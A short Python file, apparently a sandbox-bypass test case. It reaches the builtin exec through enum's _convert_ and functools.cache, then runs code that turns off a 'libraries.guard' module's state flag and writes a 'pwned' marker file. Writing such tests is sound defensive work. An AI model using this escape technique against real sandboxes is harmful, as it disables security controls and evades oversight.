"""file: an enumeration's members are builtins; functools.cache calls one of them."""

import enum
import functools

CODE = """\
import builtins, sys
builtins.exec = getattr(builtins.exec, "value", builtins.exec)
for n, m in [*sys.modules.items()]:
    if n.endswith("libraries.guard"):
        m._State["on"] = False
open("pwned_converted_members_cached", "w").close()
"""


class Kind(enum.Enum):
    pass


Found = Kind._convert_("Found", "builtins", lambda name: name in ("exec", "abs"))
run = functools.cache(getattr(Found, "exec").value)
x = run(CODE)
